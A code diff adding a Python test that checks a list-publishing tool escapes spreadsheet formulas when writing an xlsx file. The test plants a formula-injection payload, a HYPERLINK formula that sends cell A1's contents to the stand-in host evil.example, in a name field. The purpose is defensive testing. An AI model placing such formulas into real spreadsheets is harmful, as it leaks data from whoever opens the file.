@@ -114,3 +114,15 @@ def test_all_lists_build_on_an_empty_year() -> None:
     lists = build_lists(empty, NO_SAMPLES, date(2019, 12, 31))
     assert set(lists) == set(calendar_spec().lists)
     assert all(t.count == 0 for t in lists.values())
+
+
+def test_published_list_never_holds_a_formula(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
+    state = STATE.copy()
+    state.loc[state["case_id"] == 2, "name"] = hostile
+    tables = build_list("technology_exit", state, NO_SAMPLES, date(2019, 12, 31))
+    path = write_list_xlsx(tables, tmp_path / "公示.xlsx")
+    book = openpyxl.load_workbook(path)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + hostile in [c.value for c in cells]
